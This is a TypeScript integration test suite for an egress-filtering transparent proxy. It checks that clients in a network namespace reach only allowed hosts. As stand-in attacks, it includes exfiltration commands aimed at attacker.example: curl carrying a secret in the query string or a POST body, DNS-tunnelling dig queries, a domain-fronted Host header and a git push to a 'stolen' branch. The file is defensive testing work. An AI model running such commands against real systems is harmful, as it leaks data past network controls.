// Real clients in a network namespace that were told of no proxy: what they may have, they get; what they may not is refused
// readably; nothing else has a way out. Led here by the name server's answers alone, and by the rulesets of docs/transparent.md.

import { execFileSync } from "node:child_process";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { createCa } from "../support/pki.ts";
import { answerRequests, recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";
import { startRealSallyport, type RealSallyport } from "../support/real-sallyport.ts";
import { gitServer, type GitServer } from "./git-server.ts";
import { found, leadByMachine, leadFromInside, trusting } from "./led.ts";
import { allowRule, npmRegistry } from "./machine.ts";
import { type Namespace, openNamespace } from "./namespace.ts";
import { describeWith } from "./sandbox.ts";
import { disposeAll, PAYLOAD, SECRET, temporary } from "./suite.ts";

const PROGRAMS = ["root", "namespaces", "ip", "nft", "curl", "dig", "git", "npm", "python3"];

type Place = {
  readonly origin: RecordingOrigin;
  readonly plain: RecordingOrigin;
  readonly attacker: RecordingOrigin;
  readonly git: GitServer;
  readonly proxy: RealSallyport;
  readonly namespace: Namespace;
  readonly home: string;
  readonly registry: URL;
};

/** Origins on loopback addresses of their own, on the ports that clients take without being told. */
async function openPlace(open: AsyncDisposable[], routed: boolean, ports: readonly number[]): Promise<Place> {
  const files = await temporary("sallyport-transparent-");
  open.push(files);
  const home = join(files.path, "home");
  await mkdir(home);
  const ca = createCa();
  const root = join(files.path, "root.pem");
  await writeFile(root, ca.cert);
  const address = `127.${77 + (process.pid % 100)}.${process.pid & 255}.7`;
  const origin = await recordingOrigin(ca.issue({ names: ["origin.test"] }), { address, port: 443 });
  const plain = await recordingOrigin(undefined, { address, port: 80 });
  const attacker = await recordingOrigin(ca.issue({ names: ["attacker.example"] }));
  const git = await gitServer(files.path, ca.issue({ names: ["git.test"] }));
  open.push(origin, plain, attacker, git);
  for (const each of [origin, plain, attacker]) each.behave(answerRequests(() => DOWNLOAD));
  await seedRepository(files.path);

  const namespace = await openNamespace({ home, routed, variables: {} });
  open.push(namespace);
  const registry = npmRegistry();
  const [tls = 443, http = 80, dns = 53] = ports;
  const proxy = await startRealSallyport(`
upstream:
  trust: [system, bundled, ${root}]
  hosts: { origin.test: [${address}], attacker.example: [127.0.0.1], git.test: [127.0.0.1] }
anonymous: default
transparent:
  - { listen: "${namespace.gateway}:${tls}", port: 443 }
  - { listen: "${namespace.gateway}:${http}", port: 80 }
  - { listen: "${namespace.gateway}:${git.port}", port: ${git.port} }
dns: { listen: "${namespace.gateway}:${dns}", answer: [${namespace.gateway}] }
policies:
  default:
    preset: none
    intents: [git-fetch]
    allow: ${(await allowRule([registry])).replace("[", "[{ host: origin.test, networks: [127.0.0.0/8] }, { host: git.test, networks: [127.0.0.0/8] }, ")}
`);
  open.push(proxy);
  return { origin, plain, attacker, git, proxy, namespace, home, registry };
}

/** A bare repository that would take a push from anybody. */
async function seedRepository(at: string): Promise<void> {
  const bare = join(at, "shop.git");
  const work = join(at, "work");
  const git = (...args: string[]): void =>
    void execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@origin.test", ...args], {
      stdio: "ignore",
    });
  git("init", "-q", "--bare", "-b", "main", bare);
  git("-C", bare, "config", "http.receivepack", "true");
  git("init", "-q", "-b", "main", work);
  await writeFile(join(work, "file"), "content\n");
  git("-C", work, "add", "-A");
  git("-C", work, "commit", "-q", "-m", "one");
  git("-C", work, "push", "-q", bare, "main");
}

/** What must hold whichever way connections are led here. */
function describeClients(place: () => Place): void {
  const run = (...command: string[]) =>
    place().namespace.run(command, { variables: trusting(place().proxy) });

  test("curl gets what is allowed, over TLS and without", async () => {
    const { origin, plain, proxy } = place();
    expect((await run("env")).stdout).not.toMatch(/^\w*proxy\w*=/im);
    const secure = await run("curl", "-sS", "https://origin.test/download");
    expect(secure.stdout, secure.seen).toBe(PAYLOAD);
    expect(origin.received).toMatch(/^GET \/download HTTP\/1\.1\r\nHost: origin\.test\r\n/);
    const open = await run("curl", "-sS", "http://origin.test/plain");
    expect(open.stdout, open.seen).toBe(PAYLOAD);
    expect(plain.received).toMatch(/^GET \/plain HTTP\/1\.1\r\nHost: origin\.test\r\n/);
    await proxy.recorded(found({ kind: "dns", verdict: "allow", host: "origin.test", method: "A" }));
    await proxy.recorded(found({ kind: "request", verdict: "allow", way: "transparent", path: "/download" }));
    await proxy.recorded(found({ kind: "request", verdict: "allow", way: "transparent", path: "/plain" }));
  });

  test("a refused method gets nothing, and the person sees why", async () => {
    const { origin, proxy } = place();
    const ran = await run("curl", "-sS", "--data-binary", SECRET, "https://origin.test/sent");
    expect(ran.stdout).toMatch(/reason: {2}method-not-allowed\n {2}audit: {3}[0-9a-f-]{36}\n/);
    expect(origin.received).toBe("");
    await proxy.recorded(
      found({ verdict: "deny", method: "POST", reason: "method-not-allowed", path: "/sent" }),
    );
  });

  test("a refused host does not exist, and cannot be reached all the same", async () => {
    const { attacker, proxy, namespace } = place();
    const named = await run("curl", "-sS", `https://attacker.example/?${SECRET}`);
    expect(named).toMatchObject({
      code: 6,
      stderr: expect.stringMatching(/Could not resolve host/) as string,
    });
    await proxy.recorded(
      found({ kind: "dns", verdict: "deny", host: "attacker.example", reason: "host-not-allowed" }),
    );
    const forced = ["--resolve", `attacker.example:443:${namespace.gateway}`];
    const over = await run("curl", "-sS", ...forced, "https://attacker.example/");
    expect(over).toMatchObject({ code: 35, stderr: expect.stringMatching(/alert access denied/) as string });
    await proxy.recorded(
      found({ kind: "connect", way: "transparent", verdict: "deny", host: "attacker.example" }),
    );
    expect(attacker.connections).toBe(0);
  });

  test("a name in front, another behind", async () => {
    const { origin, attacker, proxy } = place();
    const ran = await run("curl", "-sS", "-H", "Host: attacker.example", "https://origin.test/fronted");
    expect(ran.stdout).toMatch(/reason: {2}host-mismatch/);
    expect(origin.received + attacker.received).toBe("");
    await proxy.recorded(found({ reason: "host-mismatch" }));
  });

  test("DNS carries nothing out", async () => {
    const { proxy, namespace } = place();
    for (const type of ["TXT", "MX", "SRV", "ANY", "NULL"]) {
      const ran = await run("dig", "+tries=1", "+time=5", "secret-1.attacker.example", type);
      expect(ran.stdout).toMatch(/status: REFUSED/);
      expect(ran.stdout).toMatch(/EDE: 21 \(Not Supported\): \(dns-type-not-allowed\)/);
    }
    const over = await run("dig", "+tcp", "+tries=1", "+time=5", "secret-2.attacker.example", "AAAA");
    expect(over.stdout).toMatch(/status: NXDOMAIN/);
    const ok = await run("dig", "+short", "origin.test", "A");
    expect(ok.stdout.trim()).toBe(namespace.gateway);
    await proxy.recorded(
      found({
        kind: "dns",
        method: "TXT",
        host: "secret-1.attacker.example",
        reason: "dns-type-not-allowed",
      }),
    );
    await proxy.recorded(
      found({ kind: "dns", method: "AAAA", host: "secret-2.attacker.example", verdict: "deny" }),
    );
  });

  test("git clones, and a push is refused before anything is sent", async () => {
    const { git, proxy, home } = place();
    const url = `https://git.test:${git.port}/shop.git`;
    const cloned = await run("git", "clone", "-q", url, "clone");
    expect(cloned.code, cloned.seen).toBe(0);
    expect(await readFile(join(home, "clone", "file"), "utf8")).toBe("content\n");
    git.requests.splice(0);
    const pushed = await run("git", "-C", "clone", "push", "origin", "HEAD:refs/heads/stolen");
    expect(pushed.stderr).toMatch(/remote: .*reason: {2}push-not-allowed/);
    expect(git.requests).toEqual([]);
    await proxy.recorded(found({ reason: "push-not-allowed", way: "transparent" }));
  });

  test("npm installs from this machine's registry", async () => {
    const { registry, home, proxy } = place();
    const project = join(home, "project");
    await mkdir(project);
    await writeFile(join(project, "package.json"), '{ "name": "the-code", "version": "1.0.0" }');
    const options = ["--registry", registry.href, "--cache", join(home, "cache"), "--fetch-retries=0"];
    const ran = await place().namespace.run(["npm", "install", "is-number@7.0.0", ...options, "--no-audit"], {
      cwd: project,
      variables: trusting(place().proxy),
    });
    expect(ran.code, ran.seen).toBe(0);
    const installed = await readFile(join(project, "node_modules", "is-number", "package.json"), "utf8");
    expect(JSON.parse(installed)).toMatchObject({ name: "is-number", version: "7.0.0" });
    await proxy.recorded(
      found({
        kind: "request",
        way: "transparent",
        method: "GET",
        host: registry.hostname,
        verdict: "allow",
      }),
    );
  });

  test("Python, which asks for the name by itself", async () => {
    const program = [
      "import urllib.request as u, urllib.error as e",
      "print(u.urlopen('https://origin.test/python').read().decode(), end='')",
      `try: u.urlopen('https://origin.test/python', data=b'${SECRET}')`,
      "except e.HTTPError as refused: print(refused.code, refused.headers['Sallyport-Reason'])",
      "try: u.urlopen('https://attacker.example/')",
      "except e.URLError as refused: print(refused.reason)",
    ].join("\n");
    const ran = await run("python3", "-c", program);
    expect(ran.stdout, ran.seen).toMatch(
      /^the download\n403 method-not-allowed\n.*Name or service not known/,
    );
  });

  test("the CA is to be had over it", async () => {
    const { proxy } = place();
    const ran = await run("curl", "-sS", "http://sallyport.internal/ca.pem");
    expect(ran.stdout).toBe(await readFile(join(proxy.directory, "certs", "ca.pem"), "utf8"));
  });

  test("no other way leads out", async () => {
    const { proxy, namespace } = place();
    const { adminPort, port } = proxy;
    const ways = [
      ["curl", "-sS", "--max-time", "2", "http://192.0.2.1:9999/"],
      ["curl", "-sS", "--max-time", "2", `http://${namespace.gateway}:${adminPort}/metrics`],
      ["curl", "-sS", "--max-time", "2", `http://${namespace.gateway}:${port}/`],
      ["curl", "-sS", "--max-time", "2", "telnet://192.0.2.1:22"],
      ["python3", "-c", UDP],
    ];
    for (const way of ways) {
      const ran = await run(...way);
      expect(ran.code, `${way.join(" ")}\n${ran.seen}`).not.toBe(0);
    }
  });
}

describeWith("led by the name server's answers alone", PROGRAMS, () => {
  const open: AsyncDisposable[] = [];
  let place: Place;
  beforeAll(async () => {
    place = await openPlace(open, false, [443, 80, 53]);
  }, 120_000);
  afterAll(() => disposeAll(open));
  beforeEach(() => forget(place));

  describeClients(() => place);

  test("an address has no route at all", async () => {
    const ran = await place.namespace.run(["curl", "-sS", "https://192.0.2.1/"]);
    expect(ran.stderr).toMatch(/Network is unreachable|Couldn't connect|Failed to connect/);
    expect(ran.code).toBe(7);
  });
});

describeWith("led by this machine's packet filter", PROGRAMS, () => {
  const open: AsyncDisposable[] = [];
  let place: Place;
  beforeAll(async () => {
    place = await openPlace(open, true, [8443, 8080, 5353]);
    open.push(leadByMachine(place.namespace, [place.git.port]));
  }, 120_000);
  afterAll(() => disposeAll(open));
  beforeEach(() => forget(place));

  describeClients(() => place);
  describe("whatever the packet's address", () => goesByName(() => place));
});

describeWith("led by the namespace's own packet filter", PROGRAMS, () => {
  const open: AsyncDisposable[] = [];
  let place: Place;
  beforeAll(async () => {
    place = await openPlace(open, true, [8443, 8080, 5353]);
    leadFromInside(place.namespace, [place.git.port]);
  }, 120_000);
  afterAll(() => disposeAll(open));
  beforeEach(() => forget(place));

  describeClients(() => place);
  describe("whatever the packet's address", () => goesByName(() => place));
});

/** The packet's own address is nobody's: TEST-NET-1. */
function goesByName(place: () => Place): void {
  const run = (...command: string[]) =>
    place().namespace.run(command, { variables: trusting(place().proxy) });

  test("the server name or Host says where it goes", async () => {
    const elsewhere = (port: number): string[] => ["--resolve", `origin.test:${port}:192.0.2.7`];
    const secure = await run("curl", "-sS", ...elsewhere(443), "https://origin.test/elsewhere");
    expect(secure.stdout, secure.seen).toBe(PAYLOAD);
    const open = await run("curl", "-sS", ...elsewhere(80), "http://origin.test/elsewhere");
    expect(open.stdout, open.seen).toBe(PAYLOAD);
    expect(place().plain.received).toContain("Host: origin.test\r\n");
  });

  test("a literal address names nobody", async () => {
    const secure = await run("curl", "-sSk", "https://192.0.2.7/");
    expect(secure).toMatchObject({
      code: 35,
      stderr: expect.stringMatching(/alert missing extension/) as string,
    });
    const open = await run("curl", "-sS", "http://192.0.2.7/");
    expect(open.stdout).toMatch(/reason: {2}address-literal/);
    await place().proxy.recorded(found({ kind: "handshake", reason: "sni-missing" }));
  });

  test("another name server is this one", async () => {
    const ran = await run("dig", "@192.0.2.53", "+tries=1", "+time=5", "secret-3.attacker.example", "TXT");
    expect(ran.stdout).toMatch(/status: REFUSED/);
    await place().proxy.recorded(found({ kind: "dns", host: "secret-3.attacker.example" }));
  });
}

function forget({ origin, plain, attacker, git }: Place): void {
  for (const each of [origin, plain, attacker]) each.reset();
  git.requests.splice(0);
}

/** A datagram to QUIC's port, and whether anything comes back. */
const UDP = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.connect(('192.0.2.1', 443))
s.send(b'hello')
s.recv(100)
`;
const DOWNLOAD = `HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: ${PAYLOAD.length}\r\n\r\n${PAYLOAD}`;
